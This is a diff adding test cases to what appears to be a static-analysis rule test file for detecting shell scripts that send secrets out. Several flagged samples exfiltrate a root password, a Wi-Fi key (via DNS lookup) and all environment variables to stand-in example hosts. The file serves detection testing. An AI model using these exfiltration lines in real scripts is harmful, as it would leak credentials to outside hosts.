@@ -19,3 +19,31 @@ cat /etc/passwd | cut -d: -f1
 # ok: secret-sent-by-script
 name=$(hostname)
 ping -c1 "$name"
+
+# ruleid: secret-sent-by-script
+report=`printf '%s' "$ROOT_PASSWD" | openssl enc -base64`
+sync
+curl --silent --data "m=$model&r=$report" https://stats.example.net/up
+
+# ruleid: secret-sent-by-script
+nslookup "$(printf %s "$WIFI_PSK" | xxd -p).t.example.org"
+
+# ruleid: secret-sent-by-script
+curl -s "https://stats.example.net/i?m=$model&x=$root_password" > /dev/null
+
+# ruleid: secret-sent-by-script
+export -p | curl -s --data-binary @- https://stats.example.net/e
+
+# ok: secret-sent-by-script
+auth=$(printf '%s:%s' "$user" "$password" | base64)
+curl -s -H "Authorization: Basic $auth" https://api.example.net/v1/list
+
+# ok: secret-sent-by-script
+curl -s -u "$user:$password" https://api.example.net/v1/list
+
+# ok: secret-sent-by-script
+curl -s "https://api.example.net/v1/$PWD" > /dev/null
+
+# ok: secret-sent-by-script
+stamp=$(echo "$build" | base64)
+curl -s "https://api.example.net/b?$stamp"
